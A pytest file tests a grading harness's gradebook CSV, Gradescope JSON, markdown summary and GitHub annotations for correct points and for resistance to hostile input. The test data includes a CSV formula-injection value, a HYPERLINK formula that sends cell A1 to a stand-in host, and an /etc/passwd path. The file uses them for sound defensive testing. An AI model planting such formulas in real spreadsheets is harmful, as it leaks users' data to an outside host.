"""Gradebook, Gradescope, summary and annotations: right numbers, and no cell, markup or command from outside."""

import csv
import json
import re

import pytest

from impls.text import printable_lines
from tests.harness.reports import folder, gradebook, gradescope, summary
from tests.harness.reports.annotations import Annotations
from tests.harness.reports.reading_result import read
from tests.selftest import made_results
from tests.selftest.test_reports_pages import hostile, report


def table(path):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_the_gradebook_holds_verdicts_and_points(tmp_path):
    content = made_results.result(30)
    lines = table(report(tmp_path, content) / "gradebook.csv")
    assert [line["name"] for line in lines] == [row["name"] for row in content["implementations"]]
    undecided = 0
    for line, row in zip(lines, content["implementations"], strict=True):
        assert line["verdict"] == row["verdict"]
        known = all(one["points"] for one in row["functions"].values() if "points" in one)
        assert line["points"] == (str(row["points"]["earned"]) if known else "")
        undecided += not known
        for name in made_results.WORTH:
            one = row["functions"][name]
            assert line[name] == one["textbook"]
            assert line[f"{name} points"] == (str(one["points"]["earned"]) if one["points"] else "")
    assert undecided


def test_no_cell_of_the_gradebook_is_run(tmp_path):
    path = report(tmp_path, hostile()) / "gradebook.csv"
    for separator in (",", ";", "\t", "|"):
        for line in csv.reader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=separator):
            for cell in line:
                assert cell.strip(" '\"")[:1] not in tuple("=+-@\t\r") or cell.lstrip(' "').startswith("'"), cell
    assert len(table(path)) == len(made_results.HOSTILE)
    assert table(path)[3]["name"] == '\'=HYPERLINK("http://a.example/?"&A1,"ok").py'


@pytest.mark.parametrize(("text", "cell"), [("a-1.py", "a-1.py"), ("2.5", "2.5"), (" =1", " '=1"), ("\n=1", r"\n=1")])
def test_other_cells_stay_as_they_are(text, cell):
    assert gradebook.cell(text) == cell


FIELDS = {
    "score": (int, float), "execution_time": (int, float), "output": str, "output_format": str, "extra_data": dict,
    "test_output_format": str, "test_name_format": str, "visibility": str, "stdout_visibility": str, "tests": list,
}  # fmt: skip
TEST_FIELDS = {
    "score": (int, float), "max_score": (int, float), "status": str, "name": str, "name_format": str, "number": str,
    "output": str, "output_format": str, "tags": list, "visibility": str, "extra_data": dict,
}  # fmt: skip


def check_gradescope(results):
    """As https://gradescope-autograders.readthedocs.io/en/latest/specs/ says."""
    assert all(isinstance(value, FIELDS[key]) for key, value in results.items())
    formats = {"text", "html", "simple_format", "md", "ansi"}
    assert {results["output_format"], results["test_output_format"], results["test_name_format"]} <= formats
    assert {results["visibility"], results["stdout_visibility"]} <= {
        "hidden",
        "after_due_date",
        "after_published",
        "visible",
    }
    for test in results["tests"]:
        assert all(isinstance(value, TEST_FIELDS[key]) for key, value in test.items())
        assert test["status"] in ("passed", "failed")
        assert 0 <= test.get("score", 0) <= test["max_score"]
    scored = results["tests"] and all("score" in test for test in results["tests"])
    assert ("score" in results) != bool(scored)


@pytest.mark.parametrize("content", [made_results.result(30), hostile()])
def test_every_file_is_in_the_format_of_gradescope(tmp_path, content):
    for path in (report(tmp_path, content) / "gradescope").iterdir():
        check_gradescope(json.loads(path.read_text(encoding="ascii")))


def test_gradescope_gets_the_points_and_leaves_a_person_what_is_theirs(tmp_path):
    content = made_results.result(30)
    written = report(tmp_path, content)
    for row in content["implementations"]:
        path = written / "gradescope" / f"{row['name']}.json"
        results = json.loads(path.read_text())
        total = results.get("score", sum(test.get("score", 0) for test in results["tests"]))
        assert total == sum(one["points"]["earned"] for one in row["functions"].values() if one.get("points"))
        assert sum(test["max_score"] for test in results["tests"]) == sum(made_results.WORTH.values())
        if not row["points"]:
            assert "A person has to give the points for" in results["output"]
        assert "Isolation: process, no network" in results["output"]


def test_without_an_assignment_a_function_counts_a_point(tmp_path):
    functions = {
        "sigmoid": made_results.function("sigmoid", "conforms"),
        "softmax": made_results.function("softmax", "fails"),
    }
    for one in functions.values():
        one["points"] = None
    content = made_results.result(1)
    content["suite"]["assignment"] = None
    content["implementations"] = [made_results.row("a.py", functions, points=None)]
    source, out = tmp_path / "result.json", tmp_path / "results.json"
    source.write_text(json.dumps(content))
    assert gradescope.main([str(source), str(out)]) == 0
    results = json.loads(out.read_text())
    check_gradescope(results)
    assert [(test["name"], test["score"]) for test in results["tests"]] == [("sigmoid", 1), ("softmax", 0)]


def test_one_submission_is_needed_for_gradescope(tmp_path, capsys):
    source = tmp_path / "result.json"
    source.write_text(json.dumps(made_results.result(2)))
    assert gradescope.main([str(source), str(tmp_path / "out.json")]) == 1
    assert "holds 2 submissions, one is needed" in capsys.readouterr().err
    assert not (tmp_path / "out.json").exists()


@pytest.mark.parametrize("count", [1, 30])
def test_the_summary_is_markdown_of_text_alone(tmp_path, count):
    content = hostile()
    content["implementations"] = content["implementations"][:count]
    text = (report(tmp_path, content) / "summary.md").read_text(encoding="utf-8")
    assert len(text) < 2**20
    fence = None
    for line in text.split("\n"):
        if fence is None and (opened := re.match(r"(`{3,})text$", line)):
            fence = opened[1]
        elif fence is not None:
            fence = None if line == fence else fence
        else:
            assert not re.search(r"[<\[@\\]|https?:|^::", line), line
    assert fence is None


def test_code_stays_in_its_block():
    assert summary.block("```\n# a") == ["````text", "```", "# a", "````"]


def annotated(tmp_path, content, environment):
    path = tmp_path / "result.json"
    path.write_text(json.dumps(content), encoding="utf-8")
    return list(folder.write(read(path), tmp_path / "report", environment))


def test_annotations_are_written_for_github_alone(tmp_path):
    content = made_results.result(1)
    content["implementations"] = [
        made_results.row("a.py", {"sigmoid": made_results.function("sigmoid", "fails", "is a, b: c")})
    ]
    (tmp_path / "submissions").mkdir()
    (tmp_path / "submissions" / "a.py").write_text("")
    assert annotated(tmp_path, content, {}) == []
    first, second = annotated(tmp_path, content, {"GITHUB_ACTIONS": "true", "GITHUB_WORKSPACE": str(tmp_path)})
    assert first.startswith("::error file=submissions/a.py,title=sigmoid fails on SIGMOID-VALUE::Each element")
    assert "%0AIt behaves as a function that is a, b: c.%0Aimport numpy" in first
    assert second.startswith("::error ")


def test_an_annotation_is_one_command_whatever_it_says(tmp_path):
    lines = annotated(tmp_path, hostile(), {"GITHUB_ACTIONS": "true"})
    assert len(lines) == 11
    for line in lines:
        assert re.fullmatch(r"::(error title=[^,:\n]*|warning)::[^\n\r]*", line), line
        assert printable_lines(line.removeprefix("::")) == line.removeprefix("::")
    assert lines[-1].startswith("::warning::")


def test_a_file_outside_the_checkout_is_not_named(tmp_path):
    content = made_results.result(1)
    row = made_results.row("a.py", {"sigmoid": made_results.function("sigmoid", "fails")}, spec="/etc/passwd")
    path = tmp_path / "result.json"
    path.write_text(json.dumps({**content, "implementations": [row]}))
    annotations = Annotations(tmp_path)
    for one in read(path).rows():
        annotations.add(one)
    assert all("file=" not in line for line in annotations.lines())
